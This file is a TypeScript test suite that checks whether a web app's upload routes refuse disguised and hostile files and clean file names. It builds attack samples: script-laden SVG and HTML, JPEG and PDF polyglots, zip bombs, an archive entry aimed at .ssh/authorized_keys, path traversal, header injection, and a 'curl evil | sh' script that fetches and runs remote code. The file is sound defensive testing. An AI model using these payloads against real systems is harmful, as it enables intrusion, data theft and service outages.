import type { LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { NDA_FILE_MAX_BYTES } from '@common/api/nda-register';
import { propertyWithDataRoom, smallPdf } from './helpers/data-rooms';
import { expectError } from './helpers/expect-error';
import { useLoggedInApp } from './helpers/logged-in-app';
import { compoundFile, DOCX_CONTENT_TYPES, smallDocx, storedZip, zipOf } from './helpers/office-files';
import { newPropertyBody } from './helpers/properties';
import { mp4, multipartBody, pngBomb, storageSnapshot, type UploadFile } from './helpers/uploads';
import { demoUserOfRole } from './helpers/users';

const LIMIT = 1024 * 1024;
const api = useLoggedInApp({ IMAGE_MAX_BYTES: String(LIMIT), DATA_ROOM_FILE_MAX_BYTES: String(LIMIT), VIDEO_MAX_BYTES: String(LIMIT) });

/** One upload route as the tests drive it: how to post a file, a file it takes, and how to download what it kept. */
interface Route {
  name: 'image' | 'data room' | 'NDA';
  maxBytes: number;
  /** A file the route takes, named with `stem`. */
  valid(stem: string): Promise<UploadFile>;
  post(file: UploadFile, encodeName?: boolean): Promise<LightMyRequestResponse>;
  download(created: LightMyRequestResponse): Promise<LightMyRequestResponse>;
}

const post =
  (url: string, field: string, fields: Record<string, string>) =>
  (file: UploadFile, encodeName = false) => {
    const { payload, headers } = multipartBody(file, { field, fields, encodeName });
    return api.send('POST', url, payload, headers);
  };
const pdf = async (stem: string) => ({ name: `${stem}.pdf`, type: 'application/pdf', bytes: smallPdf(stem) });

const routes: Route[] = [];
beforeAll(async () => {
  const room = await propertyWithDataRoom(api);
  const heading = (await room.round(1)).find((item) => item.level === 1)!;
  const property = await api.send('POST', '/api/properties', await newPropertyBody(api.app));
  const buyer = await demoUserOfRole(api.app, 5);
  routes.push(
    {
      name: 'image',
      maxBytes: LIMIT,
      valid: async (stem) => ({
        name: `${stem}.png`,
        type: 'image/png',
        bytes: await sharp({ create: { width: 32, height: 24, channels: 3, background: '#2878c8' } })
          .png()
          .toBuffer(),
      }),
      post: post('/api/media/images', 'file', {}),
      download: (res) => api.get(`/api/media/images/${res.json<{ result: { id: string } }>().result.id}/original`),
    },
    {
      name: 'data room',
      maxBytes: LIMIT,
      valid: pdf,
      post: post('/api/property-data-room', 'File', {
        UserId: '1',
        PropertyDataRoomId: String(heading.id),
        PropertyId: String(room.propertyId),
      }),
      download: (res) => api.get(`/api/property-data-room/download/${res.json<{ fileId: number }>().fileId}`),
    },
    {
      name: 'NDA',
      maxBytes: NDA_FILE_MAX_BYTES,
      valid: pdf,
      post: post('/api/ndaregister/upload', 'file', {
        adminuserid: '1',
        userid: String(buyer.id),
        propertyid: String(property.json<{ id: number }>().id),
      }),
      download: (res) => api.get(`/api/ndaregister/download/${res.json<{ id: number }>().id}`),
    },
  );
});

/** Refused, in the error shape, and nothing of it left: no row, no stored file, no temporary file. */
async function expectRefusedLeavingNothing(send: () => Promise<LightMyRequestResponse>, status: number, code?: string) {
  const before = await storageSnapshot(api.app);
  const error = expectError(await send(), status, code ? { code } : {});
  expect(error.message.length).toBeGreaterThan(20);
  expect(await storageSnapshot(api.app)).toEqual(before);
  return error;
}

// --- The attacks, each built from real bytes ---------------------------------------------------

const windowsProgram = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from('PE\0\0'), Buffer.alloc(2048, 0x90)]);
const linuxProgram = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(4000)]);
const svgWithScript = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';
const htmlWithScript = '<!DOCTYPE html><html><body><script>fetch("/api/users").then(r => r.text()).then(alert)</script></body></html>';

/** A real JPEG (sharp decodes it) whose comment segment, right after the start marker, is an HTML page: a polyglot. */
async function jpegHtmlPolyglot(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#c82878' } })
    .jpeg()
    .toBuffer();
  const html = Buffer.from(`<html><body><script>alert(1)</script></body></html>`);
  const comment = Buffer.alloc(4);
  comment.writeUInt16BE(0xfffe, 0);
  comment.writeUInt16BE(html.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), comment, html, jpeg.subarray(2)]);
}

/** A real PDF whose first 4 KB are PDF only, then (as PDF comment lines, which readers skip) an HTML page with a script. */
const pdfWithLaterPage = () => Buffer.concat([smallPdf('deed'), Buffer.from(`${'% scanned page\n'.repeat(512)}% ${htmlWithScript}\n`)]);

/** A .docx whose document part declares 4 GiB unpacked, in a file of a few hundred bytes. */
const declaredBomb = () =>
  zipOf([
    { name: '[Content_Types].xml', data: Buffer.from(DOCX_CONTENT_TYPES) },
    { name: 'word/document.xml', data: Buffer.from('<w:document/>'), deflate: true, declaredSize: 0xfffffff0 },
  ]);
/** A .docx whose document part is 100 MB of zeros, really deflated (about 100 KB): the classic bomb. */
const realBomb = () =>
  zipOf([
    { name: '[Content_Types].xml', data: Buffer.from(DOCX_CONTENT_TYPES) },
    { name: 'word/document.xml', data: Buffer.alloc(100 * 1024 * 1024), deflate: true },
  ]);

type Expected = Record<Route['name'], [status: number, code?: string]>;
const everywhere = (status: number, code?: string): Expected => ({
  image: [status, code],
  'data room': [status, code],
  NDA: [status, code],
});
const WRONG_TYPE = everywhere(415, 'UNSUPPORTED_MEDIA_TYPE');

const attacks: [what: string, file: (route: Route) => Promise<UploadFile> | UploadFile, expected: Expected][] = [
  ['a Windows program renamed .pdf', () => ({ name: 'invoice.pdf', type: 'application/pdf', bytes: windowsProgram }), WRONG_TYPE],
  ['a Linux program renamed .pdf', () => ({ name: 'invoice.pdf', type: 'application/pdf', bytes: linuxProgram }), WRONG_TYPE],
  ['an SVG with a script', () => ({ name: 'plan.svg', type: 'image/svg+xml', bytes: Buffer.from(svgWithScript) }), WRONG_TYPE],
  [
    'an HTML page with a script named .pdf',
    () => ({ name: 'deed.pdf', type: 'application/pdf', bytes: Buffer.from(htmlWithScript) }),
    WRONG_TYPE,
  ],
  ['an HTML page with a script', () => ({ name: 'deed.html', type: 'text/html', bytes: Buffer.from(htmlWithScript) }), WRONG_TYPE],
  [
    'an HTML page in UTF-16 named .txt',
    () => ({
      name: 'notes.txt',
      type: 'text/plain',
      bytes: Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(htmlWithScript, 'utf16le')]),
    }),
    WRONG_TYPE,
  ],
  [
    'a shell script named .txt',
    () => ({ name: 'notes.txt', type: 'text/plain', bytes: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }),
    WRONG_TYPE,
  ],
  [
    'a JPEG that is also an HTML page (polyglot)',
    async () => ({ name: 'photo.jpg', type: 'image/jpeg', bytes: await jpegHtmlPolyglot() }),
    WRONG_TYPE,
  ],
  [
    'a PDF behind an HTML page (polyglot)',
    () => ({ name: 'deed.pdf', type: 'application/pdf', bytes: Buffer.concat([Buffer.from(htmlWithScript), smallPdf('deed')]) }),
    WRONG_TYPE,
  ],
  [
    'an HTML page after 8 KB of plain text, named .txt',
    () => ({ name: 'notes.txt', type: 'text/plain', bytes: Buffer.from(`${'Rent roll notes.\n'.repeat(512)}${htmlWithScript}`) }),
    WRONG_TYPE,
  ],
  [
    'a PDF holding an HTML page after its first 4 KB (polyglot)',
    () => ({ name: 'deed.pdf', type: 'application/pdf', bytes: pdfWithLaterPage() }),
    WRONG_TYPE,
  ],
  [
    'a decompression-bomb image (20000 × 20000 pixels in a few KB)',
    () => ({ name: 'plan.png', type: 'image/png', bytes: pngBomb(20_000, 20_000) }),
    { image: [413, 'IMAGE_TOO_MANY_PIXELS'], 'data room': [413, 'IMAGE_TOO_MANY_PIXELS'], NDA: [415, 'UNSUPPORTED_MEDIA_TYPE'] },
  ],
  ['a 0-byte file', async (route) => ({ ...(await route.valid('empty')), bytes: Buffer.alloc(0) }), everywhere(400)],
  [
    'a file one byte over the limit',
    // A file of the route's kind, padded: bytes of a kind it never takes are refused at their first 4 KB (415) instead.
    async (route) => {
      const file = await route.valid('big');
      return { ...file, bytes: Buffer.concat([file.bytes, Buffer.alloc(route.maxBytes + 1 - file.bytes.length, 0x25)]) };
    },
    everywhere(413, 'PAYLOAD_TOO_LARGE'),
  ],
  [
    'a zip bomb named .docx (an entry declaring 4 GiB)',
    () => ({ name: 'lease.docx', type: 'application/octet-stream', bytes: declaredBomb() }),
    { image: [415], 'data room': [413, 'ARCHIVE_TOO_LARGE_UNPACKED'], NDA: [413, 'ARCHIVE_TOO_LARGE_UNPACKED'] },
  ],
  [
    'a zip bomb named .docx (100 MB of zeros deflated)',
    () => ({ name: 'lease.docx', type: 'application/octet-stream', bytes: realBomb() }),
    { image: [415], 'data room': [413, 'ARCHIVE_TOO_LARGE_UNPACKED'], NDA: [413, 'ARCHIVE_TOO_LARGE_UNPACKED'] },
  ],
  [
    "a zip whose entry climbs out of its folder ('../')",
    () => ({
      name: 'scans.zip',
      type: 'application/zip',
      bytes: zipOf([{ name: '../../.ssh/authorized_keys', data: Buffer.from('ssh-rsa AAAA') }]),
    }),
    { image: [415], 'data room': [400, 'ARCHIVE_MALFORMED'], NDA: [400, 'ARCHIVE_MALFORMED'] },
  ],
  [
    'a Word document with macros named .docx',
    () => ({
      name: 'lease.docx',
      type: 'application/octet-stream',
      bytes: zipOf([
        { name: '[Content_Types].xml', data: Buffer.from(DOCX_CONTENT_TYPES) },
        { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
        { name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) },
      ]),
    }),
    WRONG_TYPE,
  ],
  [
    'a real PDF named .exe behind a right-to-left override (invoice‮fdp.exe)',
    async (route) => ({ ...(await route.valid('x')), name: 'invoice\u202efdp.exe' }),
    everywhere(415, 'NAME_CONTRADICTS_CONTENT'),
  ],
];

describe.each(['image', 'data room', 'NDA'] as const)('%s upload: content decided by the bytes', (routeName) => {
  const route = () => routes.find((r) => r.name === routeName)!;

  it.each(attacks)('refuses %s with a clear message and keeps nothing', async (_what, file, expected) => {
    const [status, code] = expected[routeName];
    const upload = await file(route());
    await expectRefusedLeavingNothing(() => route().post(upload), status, code);
  });

  it('takes a real file of its kind and serves it with nosniff and the type decided from the bytes, not the browser', async () => {
    const file = await route().valid('ok');
    const created = await route().post({ ...file, type: 'text/html' });
    expect(created.statusCode, created.body).toBeLessThan(300);
    const got = await route().download(created);
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    expect(got.headers['content-type']).toBe(route().name === 'image' ? 'image/png' : 'application/pdf');
    expect(got.headers['content-disposition']).toMatch(/^attachment; /);
    expect(got.rawPayload.equals(file.bytes)).toBe(true);
  });
});

const picture = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#28c878' } });
/** An OOXML package holding `part` (xl/workbook.xml, ppt/presentation.xml): its folder makes it a workbook or a deck. */
const ooxml = (part: string) => storedZip({ '[Content_Types].xml': '<Types/>', [part]: '<x/>' });

describe('data room upload: what it takes', () => {
  it.each([
    ['deed.pdf', 'application/pdf', () => smallPdf('deed')],
    ['lease.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', () => smallDocx('lease')],
    ['rents.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', () => ooxml('xl/workbook.xml')],
    ['pitch.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', () => ooxml('ppt/presentation.xml')],
    ['old lease.doc', 'application/msword', () => compoundFile(['WordDocument'])],
    ['old rents.xls', 'application/vnd.ms-excel', () => compoundFile(['Workbook'])],
    ['old pitch.ppt', 'application/vnd.ms-powerpoint', () => compoundFile(['PowerPoint Document'])],
    ['front.jpg', 'image/jpeg', () => picture().jpeg().toBuffer()],
    ['plan.png', 'image/png', () => picture().png().toBuffer()],
    ['plan.gif', 'image/gif', () => picture().gif().toBuffer()],
    ['plan.webp', 'image/webp', () => picture().webp().toBuffer()],
    ['scan.tiff', 'image/tiff', () => picture().tiff().toBuffer()],
    ['rents.csv', 'text/csv', () => Buffer.from('unit;rent\n4;1 200,00 €\n')],
    ['notes.txt', 'text/plain', () => Buffer.from('Viewing on Tuesday at 10:00.\n')],
    [
      'unicode.txt',
      'text/plain',
      () => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from('Unit\tRent\r\n4\t1 200 €\r\n', 'utf16le')]),
    ],
    ['scans.zip', 'application/zip', () => storedZip({ 'scan-1.txt': 'page 1', 'scan-2.txt': 'page 2' })],
  ])('takes %s, served as %s', async (name, type, bytes) => {
    const route = routes.find((r) => r.name === 'data room')!;
    const created = await route.post({ name, type: 'application/octet-stream', bytes: await bytes() });
    expect(created.statusCode, created.body).toBe(201);
    const got = await route.download(created);
    expect(got.headers['content-type']).toMatch(new RegExp(`^${type.replace(/[.+]/g, '\\$&')}(;|$)`));
    expect(downloadName(got)).toBe(name);
  });
});

/** The name a download carries, decoded from its RFC 5987 `filename*`, after checking the header is well-formed. */
function downloadName(res: LightMyRequestResponse): string {
  const header = String(res.headers['content-disposition']);
  const match = /^attachment; filename="([\x20-\x7e]*)"; filename\*=UTF-8''([A-Za-z0-9!#$&+\-.^_`|~%]*)$/.exec(header);
  expect(match, header).not.toBeNull();
  expect(match![1]).not.toMatch(/["\\%]/);
  return decodeURIComponent(match![2]);
}

const names: [what: string, sent: (ext: string) => string, kept: (ext: string) => string][] = [
  ["a path with '../'", (ext) => `../../../etc/passwd.${ext}`, (ext) => `passwd.${ext}`],
  ['a Windows path', (ext) => `C:\\Users\\x\\..\\deed.${ext}`, (ext) => `deed.${ext}`],
  ['control characters (NUL, BEL, tab, escape, DEL)', (ext) => `de\u0000e\u0007d\t\u001b\u007f.${ext}`, (ext) => `deed.${ext}`],
  ['a right-to-left override and zero-width characters', (ext) => `ab\u202ecd\u200b\u2066ef.${ext}`, (ext) => `abcdef.${ext}`],
  ['300 characters', (ext) => `${'a'.repeat(300)}.${ext}`, (ext) => `${'a'.repeat(255 - ext.length - 1)}.${ext}`],
  ['300 emoji (never cut in half)', (ext) => `${'🏢'.repeat(300)}.${ext}`, (ext) => `${'🏢'.repeat(255 - ext.length - 1)}.${ext}`],
  [
    'quotes, apostrophes and brackets O\'Brien "final" (1)*',
    (ext) => `O'Brien "final" (1)*%41.${ext}`,
    (ext) => `O'Brien "final" (1)*%41.${ext}`,
  ],
  ['no extension (the type’s is added)', () => 'Lease v2.1', (ext) => `Lease v2.1.${ext}`],
  ['trailing dots and spaces (Windows drops them)', (ext) => `deed.${ext} . .`, (ext) => `deed.${ext}`],
];

describe.each(['image', 'data room', 'NDA'] as const)('%s upload: names', (routeName) => {
  const route = () => routes.find((r) => r.name === routeName)!;

  it.each(names)('keeps %s only as a cleaned name, and only in Content-Disposition', async (_what, sent, kept) => {
    const file = await route().valid('x');
    const ext = file.name.split('.').pop()!;
    const created = await route().post({ ...file, name: sent(ext) }, true);
    expect(created.statusCode, created.body).toBeLessThan(300);
    const got = await route().download(created);
    const name = downloadName(got);
    expect(name).toBe(kept(ext));
    expect(Array.from(name).length).toBeLessThanOrEqual(255);
    // No other header carries the name, nor any line it tried to add.
    const others = Object.entries(got.headers).filter(([header]) => header !== 'content-disposition');
    expect(others.map(([, value]) => String(value)).join('\n')).not.toContain(name.slice(0, 8));
    expect(got.headers['content-type']).not.toMatch(/html/);
    // Nor the URLs the upload answered with.
    if (routeName === 'image') expect(created.body).not.toContain(name.slice(0, 8));
  });
});

describe.each(['image', 'data room', 'NDA'] as const)('%s upload: a name with a line break', (routeName) => {
  it('is refused with 400 and a message that says why, keeping nothing (the parser drops such a part: a header injection)', async () => {
    const route = routes.find((r) => r.name === routeName)!;
    const file = await route.valid('x');
    const error = await expectRefusedLeavingNothing(
      () => route.post({ ...file, name: `deed\r\nContent-Type: text/html\r\n.${file.name.split('.').pop()}` }, true),
      400,
    );
    expect(error.message).toContain('line break');
  });
});

describe('video upload (tus): content decided by the bytes when it finishes', () => {
  let base: string;
  beforeAll(async () => {
    base = await api.app.listen({ port: 0, host: '127.0.0.1' });
  });
  const tus = (method: string, url: string, headers: Record<string, string>, body?: Buffer) =>
    fetch(`${base}${url}`, {
      method,
      headers: { cookie: api.cookie, 'tus-resumable': '1.0.0', ...headers },
      body: body && new Uint8Array(body),
    });
  /** Creates an upload named `name` and sends all of `bytes` in one PATCH; answers that last response. */
  async function tusUpload(name: string, bytes: Buffer) {
    const created = await tus('POST', '/api/media/videos/tus', {
      'upload-length': String(bytes.length),
      'upload-metadata': `filename ${Buffer.from(name).toString('base64')}`,
    });
    if (created.status !== 201) return created;
    const url = new URL(created.headers.get('location')!, base).pathname;
    return tus('PATCH', url, { 'upload-offset': '0', 'content-type': 'application/offset+octet-stream' }, bytes);
  }
  async function expectVideoRefused(name: string, bytes: Buffer, status: number, code: string) {
    const before = await storageSnapshot(api.app);
    const res = await tusUpload(name, bytes);
    expect(res.status).toBe(status);
    const body = (await res.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe(code);
    expect(await storageSnapshot(api.app)).toEqual(before);
  }

  it('refuses a Windows program renamed .mp4 (415), keeping nothing, not even the tus files', async () => {
    await expectVideoRefused('tour.mp4', windowsProgram, 415, 'NOT_A_VIDEO');
  });

  it('refuses an HTML page named .mp4 (415)', async () => {
    await expectVideoRefused('tour.mp4', Buffer.from(htmlWithScript), 415, 'NOT_A_VIDEO');
  });

  it('refuses a video named .html (415: the name contradicts the bytes)', async () => {
    await expectVideoRefused('tour.html', mp4(16 * 1024), 415, 'NAME_CONTRADICTS_CONTENT');
  });

  it('refuses a 0-byte upload (400) and one over VIDEO_MAX_BYTES before taking it (413)', async () => {
    await expectVideoRefused('tour.mp4', Buffer.alloc(0), 400, 'EMPTY_FILE');
    const before = await storageSnapshot(api.app);
    const res = await tus('POST', '/api/media/videos/tus', { 'upload-length': String(LIMIT + 1) });
    expect(res.status).toBe(413);
    expect(await storageSnapshot(api.app)).toEqual(before);
  });

  it("cleans the name it came with ('../', CR/LF, a right-to-left override, 300 characters)", async () => {
    const res = await tusUpload(`../../${'\u202e'}tour\r\n${'v'.repeat(300)}.mp4`, mp4(16 * 1024));
    expect(res.status).toBe(204);
    const id = res.url.split('/').pop()!;
    const details = await api.get(`/api/media/videos/${id}`);
    expect(details.json<{ originalName: string }>().originalName).toBe(`tour${'v'.repeat(255 - 8)}.mp4`);
    const play = await api.get(`/api/media/videos/${id}/play`);
    expect(play.headers).toMatchObject({ 'content-type': 'video/mp4', 'x-content-type-options': 'nosniff' });
  });
});

describe('data room upload: markup past the first 4 KB', () => {
  const dataRoom = () => routes.find((r) => r.name === 'data room')!;
  it.each([
    ['an HTML page after text', htmlWithScript, 'This file is an HTML page'],
    ['an SVG after text', svgWithScript, 'This file is an SVG image (it can carry scripts)'],
  ])('refuses %s in the words it uses when the markup comes first', async (_what, markup, words) => {
    const first = await expectRefusedLeavingNothing(
      () => dataRoom().post({ name: 'notes.txt', type: 'text/plain', bytes: Buffer.from(markup) }),
      415,
    );
    const later = Buffer.from(`${'Rent roll notes.\n'.repeat(512)}${markup}`);
    expect(await expectRefusedLeavingNothing(() => dataRoom().post({ name: 'notes.txt', type: 'text/plain', bytes: later }), 415)).toEqual(
      first,
    );
    expect(first.message).toContain(words);
  });

  it('refuses a PDF with a script past its head as the polyglot it is', async () => {
    const error = await expectRefusedLeavingNothing(
      () => dataRoom().post({ name: 'deed.pdf', type: 'application/pdf', bytes: pdfWithLaterPage() }),
      415,
    );
    expect(error.message).toContain('This file is application/pdf holding HTML or script (a polyglot)');
  });
});
